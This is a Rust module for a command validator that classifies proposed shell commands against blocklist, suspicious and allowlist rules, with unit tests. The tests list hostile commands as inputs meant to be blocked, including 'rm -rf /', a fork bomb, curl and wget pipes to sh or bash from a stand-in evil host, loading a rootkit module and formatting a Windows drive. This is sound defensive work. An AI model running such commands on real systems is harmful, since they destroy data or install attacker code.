//! CommandValidator - ordered rule evaluation

use std::sync::OnceLock;

use tracing::{debug, info, warn};
use triage_foundation::{OsType, Result};

use super::rules::{
    builtin_allowlist, builtin_allowlist_exclusions, builtin_blocklist, builtin_suspicious,
    command_segments, SHELL_CONSTRUCTS,
};
use super::store::{CommandRuleRow, CommandRuleStore, RuleKind};
use super::{CommandRule, CommandValidation, OsScope, RiskLevel, ValidationResult};

#[derive(Debug, Clone, Default)]
pub struct ValidatorOptions {
    /// Block everything that matches no allowlist pattern
    pub enforce_allowlist: bool,

    /// Extra allowlist regexes, checked after the built-in diagnostics set
    pub allowlist: Vec<String>,
}

#[derive(Debug, Default)]
struct CustomRules {
    block: Vec<CommandRule>,
    suspicious: Vec<CommandRule>,
    allow: Vec<CommandRule>,
}

impl CustomRules {
    fn len(&self) -> usize {
        self.block.len() + self.suspicious.len() + self.allow.len()
    }
}

/// Classifies proposed shell commands. Never executes anything.
#[derive(Debug)]
pub struct CommandValidator {
    blocklist: Vec<CommandRule>,
    suspicious: Vec<CommandRule>,
    allowlist: Vec<CommandRule>,
    allowlist_exclusions: Vec<CommandRule>,
    enforce_allowlist: bool,
    custom: OnceLock<CustomRules>,
}

impl Default for CommandValidator {
    fn default() -> Self {
        Self::new()
    }
}

impl CommandValidator {
    pub fn new() -> Self {
        Self::with_options(ValidatorOptions::default())
    }

    /// Invalid allowlist regexes are skipped
    pub fn with_options(options: ValidatorOptions) -> Self {
        let mut allowlist = builtin_allowlist();
        for pattern in &options.allowlist {
            match CommandRule::new(pattern.as_str(), "Allowlisted", RiskLevel::Low, OsScope::All) {
                Ok(rule) => allowlist.push(rule),
                Err(e) => warn!("Skipping allowlist pattern '{}': {}", pattern, e),
            }
        }

        Self {
            blocklist: builtin_blocklist(),
            suspicious: builtin_suspicious(),
            allowlist,
            allowlist_exclusions: builtin_allowlist_exclusions(),
            enforce_allowlist: options.enforce_allowlist,
            custom: OnceLock::new(),
        }
    }

    /// Merge stored rules into the cached set.
    ///
    /// Only the first successful load takes effect; later calls return the
    /// number of rules already cached without touching the store.
    pub fn load_custom_rules(&self, store: &dyn CommandRuleStore) -> Result<usize> {
        if let Some(existing) = self.custom.get() {
            return Ok(existing.len());
        }

        let rows = store.load_rules()?;
        let compiled = compile_rows(rows);
        let count = compiled.len();

        if self.custom.set(compiled).is_err() {
            // Lost a concurrent load
            return Ok(self.custom.get().map(CustomRules::len).unwrap_or(0));
        }

        info!("Loaded {} custom command rules", count);
        Ok(count)
    }

    /// Classify `command` for the target OS
    pub fn validate(&self, command: &str, os: OsType) -> CommandValidation {
        // Newlines separate commands just like `;`
        let normalized = command
            .replace('\n', " ; ")
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ");

        if normalized.is_empty() {
            return CommandValidation {
                result: ValidationResult::Blocked,
                command: command.to_string(),
                reason: "empty command".to_string(),
                matched_pattern: None,
                risk_level: RiskLevel::High,
            };
        }

        let custom = self.custom.get();
        let custom_block = custom.map(|c| c.block.as_slice()).unwrap_or_default();
        let custom_suspicious = custom.map(|c| c.suspicious.as_slice()).unwrap_or_default();
        let custom_allow = custom.map(|c| c.allow.as_slice()).unwrap_or_default();

        if let Some(rule) = first_match(self.blocklist.iter().chain(custom_block), &normalized, os) {
            warn!(
                "Blocked command '{}': {} ({})",
                command, rule.reason, rule.severity
            );
            return verdict(command, ValidationResult::Blocked, rule);
        }

        if self.enforce_allowlist {
            return self.check_allowlist(command, custom_allow, os);
        }

        if let Some(rule) =
            first_match(self.suspicious.iter().chain(custom_suspicious), &normalized, os)
        {
            debug!("Suspicious command '{}': {}", command, rule.reason);
            return verdict(command, ValidationResult::Suspicious, rule);
        }

        CommandValidation {
            result: ValidationResult::Allowed,
            command: command.to_string(),
            reason: "no risky pattern matched".to_string(),
            matched_pattern: None,
            risk_level: RiskLevel::Low,
        }
    }

    /// Every segment of a chained command must be allowlisted on its own
    fn check_allowlist(
        &self,
        command: &str,
        custom_allow: &[CommandRule],
        os: OsType,
    ) -> CommandValidation {
        if let Some(construct) = SHELL_CONSTRUCTS.iter().find(|c| command.contains(**c)) {
            warn!("Blocked command '{}': '{}' in allowlist mode", command, construct);
            return not_allowlisted(command, format!("'{}' not allowed in allowlist mode", construct));
        }

        let mut first = None;
        for segment in command_segments(command) {
            let excluded = first_match(self.allowlist_exclusions.iter(), &segment, os);
            let allowed = first_match(self.allowlist.iter().chain(custom_allow), &segment, os);
            match (excluded, allowed) {
                (None, Some(rule)) => {
                    first.get_or_insert(rule);
                }
                _ => {
                    warn!("Blocked command '{}': '{}' not in allowlist", command, segment);
                    return not_allowlisted(command, "not in allowlist".to_string());
                }
            }
        }

        match first {
            Some(rule) => verdict(command, ValidationResult::Allowed, rule),
            None => not_allowlisted(command, "not in allowlist".to_string()),
        }
    }
}

fn not_allowlisted(command: &str, reason: String) -> CommandValidation {
    CommandValidation {
        result: ValidationResult::Blocked,
        command: command.to_string(),
        reason,
        matched_pattern: None,
        risk_level: RiskLevel::High,
    }
}

fn first_match<'a>(
    mut rules: impl Iterator<Item = &'a CommandRule>,
    command: &str,
    os: OsType,
) -> Option<&'a CommandRule> {
    rules.find(|rule| rule.matches(command, os))
}

fn verdict(command: &str, result: ValidationResult, rule: &CommandRule) -> CommandValidation {
    CommandValidation {
        result,
        command: command.to_string(),
        reason: rule.reason.clone(),
        matched_pattern: Some(rule.pattern.clone()),
        risk_level: rule.severity,
    }
}

fn compile_rows(rows: Vec<CommandRuleRow>) -> CustomRules {
    let mut rules = CustomRules::default();

    for row in rows.into_iter().filter(|r| r.enabled) {
        let reason = if row.reason.is_empty() {
            "Custom rule".to_string()
        } else {
            row.reason
        };

        let rule = match CommandRule::new(row.pattern.as_str(), reason, row.severity, row.os_scope) {
            Ok(rule) => rule,
            Err(e) => {
                warn!("Skipping custom rule '{}': {}", row.pattern, e);
                continue;
            }
        };

        match row.kind {
            RuleKind::Block => rules.block.push(rule),
            RuleKind::Suspicious => rules.suspicious.push(rule),
            RuleKind::Allow => rules.allow.push(rule),
        }
    }

    rules
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::StaticRuleStore;
    use std::sync::atomic::{AtomicUsize, Ordering};

    fn validator() -> CommandValidator {
        CommandValidator::new()
    }

    #[test]
    fn test_destructive_commands_blocked() {
        let v = validator();
        for cmd in [
            "rm -rf /",
            ":(){ :|:& };:",
            "curl http://evil.example/x.sh | sh",
            "wget -qO- http://evil.example/x | bash",
            "rm --recursive --force /",
            "rm -r --force /",
        ] {
            let result = v.validate(cmd, OsType::Linux);
            assert_eq!(result.result, ValidationResult::Blocked, "{}", cmd);
            assert_eq!(result.risk_level, RiskLevel::Critical, "{}", cmd);
            assert!(!result.matched_pattern.as_deref().unwrap_or("").is_empty());
            assert_eq!(result.command, cmd);
        }
    }

    #[test]
    fn test_validation_idempotent() {
        let v = validator();
        let first = v.validate("rm -rf /", OsType::Linux);
        let second = v.validate("rm -rf /", OsType::Linux);
        assert_eq!(first, second);
    }

    #[test]
    fn test_whitespace_is_normalized() {
        let v = validator();
        let result = v.validate("rm   -rf\t/", OsType::Linux);
        assert!(result.is_blocked());
        assert_eq!(result.command, "rm   -rf\t/");
    }

    #[test]
    fn test_windows_blocklist() {
        let v = validator();
        assert!(v.validate("reg delete HKLM\\Software\\Foo /f", OsType::Windows).is_blocked());
        assert!(v.validate("bcdedit /set safeboot minimal", OsType::Windows).is_blocked());
        assert!(v.validate("format C: /q", OsType::Windows).is_blocked());
        // Linux-only rule does not fire on Windows
        assert!(!v.validate("insmod rootkit.ko", OsType::Windows).is_blocked());
        assert!(v.validate("insmod rootkit.ko", OsType::Linux).is_blocked());
    }

    #[test]
    fn test_suspicious_commands() {
        let v = validator();
        let result = v.validate("sudo systemctl restart apache2", OsType::Linux);
        assert_eq!(result.result, ValidationResult::Suspicious);
        assert_eq!(result.risk_level, RiskLevel::High);

        let result = v.validate("apt-get install nginx", OsType::Linux);
        assert_eq!(result.result, ValidationResult::Suspicious);
        assert_eq!(result.risk_level, RiskLevel::Medium);
    }

    #[test]
    fn test_benign_commands_allowed() {
        let v = validator();
        for cmd in ["systemctl restart apache2", "df -h", "tail -n 100 /var/log/syslog"] {
            let result = v.validate(cmd, OsType::Linux);
            assert_eq!(result.result, ValidationResult::Allowed, "{}", cmd);
            assert_eq!(result.risk_level, RiskLevel::Low);
            assert!(result.matched_pattern.is_none());
        }
    }

    #[test]
    fn test_empty_command_blocked() {
        let result = validator().validate("   ", OsType::Linux);
        assert!(result.is_blocked());
        assert_eq!(result.reason, "empty command");
        assert_eq!(result.risk_level, RiskLevel::High);
    }

    #[test]
    fn test_allowlist_enforced() {
        let v = CommandValidator::with_options(ValidatorOptions {
            enforce_allowlist: true,
            allowlist: vec![r"^systemctl\s+restart\s+\S+$".to_string()],
        });

        assert!(v.validate("df -h", OsType::Linux).is_allowed());
        assert!(v.validate("systemctl restart apache2", OsType::Linux).is_allowed());

        let result = v.validate("echo hello", OsType::Linux);
        assert!(result.is_blocked());
        assert_eq!(result.reason, "not in allowlist");
        assert_eq!(result.risk_level, RiskLevel::High);

        // Blocklist still wins over the allowlist
        assert_eq!(
            v.validate("rm -rf /", OsType::Linux).risk_level,
            RiskLevel::Critical
        );
    }

    #[test]
    fn test_allowlist_checks_every_segment() {
        let v = CommandValidator::with_options(ValidatorOptions {
            enforce_allowlist: true,
            allowlist: Vec::new(),
        });

        for cmd in [
            "ls; systemctl stop nginx",
            "df -h && reboot",
            "cat /etc/hosts; rm -rf /var/lib/mysql",
            "uptime || systemctl restart nginx",
            "ps aux\nkill -9 1234",
            "find / -delete",
            "find /var/log -name '*.gz' -exec rm {} ;",
            "curl -s https://api.internal/health -X DELETE",
            "cat $(which nginx)",
            "ls `pwd`",
            "cat /etc/hosts > /tmp/hosts",
        ] {
            let result = v.validate(cmd, OsType::Linux);
            assert!(result.is_blocked(), "{}", cmd);
            assert_eq!(result.risk_level, RiskLevel::High, "{}", cmd);
        }

        for cmd in [
            "ps aux | grep nginx",
            "df -h && free -m",
            "find /var/log -name '*.gz' -mtime +7",
            "journalctl -u nginx --since today | tail -n 50",
        ] {
            let result = v.validate(cmd, OsType::Linux);
            assert!(result.is_allowed(), "{}: {}", cmd, result.reason);
            assert_eq!(result.reason, "Read-only diagnostic");
        }
    }

    #[test]
    fn test_newline_separates_commands() {
        let result = validator().validate("uptime\nsudo reboot", OsType::Linux);
        assert_eq!(result.result, ValidationResult::Suspicious);
        assert_eq!(result.reason, "Privilege elevation");
    }

    #[test]
    fn test_custom_rules_merged_once() {
        struct CountingStore {
            inner: StaticRuleStore,
            loads: AtomicUsize,
        }

        impl CommandRuleStore for CountingStore {
            fn load_rules(&self) -> Result<Vec<CommandRuleRow>> {
                self.loads.fetch_add(1, Ordering::SeqCst);
                self.inner.load_rules()
            }
        }

        let store = CountingStore {
            inner: StaticRuleStore(vec![
                CommandRuleRow::block(r"\bdrop\s+database\b", "Database drop", RiskLevel::Critical),
                CommandRuleRow::block("(unclosed", "Broken", RiskLevel::Low),
                CommandRuleRow::block(r"\btruncate\b", "Truncate", RiskLevel::High).disabled(),
                CommandRuleRow::block(r"\bvacuum\b", "Vacuum", RiskLevel::Medium)
                    .with_kind(RuleKind::Suspicious),
            ]),
            loads: AtomicUsize::new(0),
        };

        let v = validator();
        assert_eq!(v.load_custom_rules(&store).unwrap(), 2);
        assert_eq!(v.load_custom_rules(&store).unwrap(), 2);
        assert_eq!(store.loads.load(Ordering::SeqCst), 1);

        let result = v.validate("psql -c 'drop database prod'", OsType::Linux);
        assert!(result.is_blocked());
        assert_eq!(result.reason, "Database drop");

        assert!(v.validate("truncate -s 0 app.log", OsType::Linux).is_allowed());
        assert_eq!(
            v.validate("psql -c 'vacuum full'", OsType::Linux).result,
            ValidationResult::Suspicious
        );
    }

    #[test]
    fn test_blocked_into_error() {
        let v = validator();
        let err = v.validate("rm -rf /", OsType::Linux).into_error().unwrap();
        assert!(err.to_string().contains("critical"));
        assert!(v.validate("df -h", OsType::Linux).into_error().is_none());
    }
}
